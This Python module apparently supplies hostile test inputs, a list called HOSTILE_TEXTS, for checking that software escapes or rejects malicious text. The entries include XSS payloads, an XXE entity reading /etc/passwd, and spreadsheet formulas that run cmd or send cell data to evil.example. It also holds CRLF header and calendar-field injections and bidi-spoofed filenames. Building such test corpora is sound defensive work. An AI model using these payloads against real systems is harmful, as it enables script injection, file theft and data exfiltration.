"""What a page that means harm might say: more than a hundred texts that something might run, obey or lose."""

from __future__ import annotations

from itertools import product

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=x></form>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<?xml version='1.0'?><?php system('id') ?>",
    "{{ 7*7 }} {% import os %} ${7*7} #{7*7}",
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "https://user:secret@evil.example/",
    "https://evil.example/\u202egpj.exe",
    "https://evil.example/\r\nSet-Cookie: a=b",
    "//evil.example/x",
]
_FORMULAS = [
    f"{sign}{rest}"
    for sign, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " ="),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"klikk")'),
    )
] + ['=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"/C calc";"!A0")', '";=1+1;"', "x;y\n=1+1;z", "＝1+1"]
_CALENDARS = [
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:ond",
    "x\nATTACH:http://evil.example/x.exe",
    "x\\nATTACH:http://evil.example/x.exe",
    "x\rBEGIN:VALARM\rACTION:EMAIL\rEND:VALARM",
    "x\u2028END:VCALENDAR\u2029BEGIN:VCALENDAR",
    "x\x85METHOD:CANCEL",
    "x\x0bUID:1\x0cSEQUENCE:99",
    "a,b;c:d\\e\\,f\\;g",
    'a";X=b:c',
    "^n^'^^",
    "x" * 74 + "\r\n ATTENDEE:mailto:alle@example.org",
    "æøå" * 40,
]
_HEADERS = [
    "x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "x\r\nBcc: alle@example.org",
    "=?utf-8?q?=0d=0aBcc:_x?=",
    "%0d%0aSet-Cookie: a=b",
    '"; filename="x.exe',
]
_TYPESETTING = [
    '#eval("1")',
    '#read("/etc/passwd")',
    '#link("http://evil.example")[x]',
    '#include "/etc/passwd"',
    "$ sum_(i=1)^n $",
    "*fet* _kursiv_ `kode`",
    "// kommentar",
    "/* kommentar */",
    "<merke> @merke",
    "\\u{202e}",
    "= Overskrift",
    "] #panic() [",
    "\\input{/etc/passwd}",
]
_SIGNS = [
    "\u202eabc\u202c",
    "\u202dabc",
    "\u2066abc\u2069",
    "\u2067abc",
    "gpj.\u202eexe",
    "a\x00b",
    "\x00",
    "\x1b[31mrødt\x1b[0m",
    "\x07\x08\x7f",
    "\x80\x9f",
    "\ufeffbom",
    "\ufffe\uffff",
    "a\ud800b",
    "\U0001f600 \u6f22\u5b57 \u05d0\u05d1\u05d2 \u0627\u0644\u0639",
    "e\u0301" + "\u0301" * 300,
    "a\u200bb\u200dc\u00adb",
    "\ufdfa" * 20,
    "\ufdd0\ufdef",
]
_LONG = ["x" * 1_000_000, "ord " * 250_000, "=" * 40_000, "<b>" * 20_000, "\n" * 1000 + "x", "🙂æ" * 20_000]

HOSTILE_TEXTS = [*_SCRIPTS, *_ADDRESSES, *_FORMULAS, *_CALENDARS, *_HEADERS, *_TYPESETTING, *_SIGNS, *_LONG]
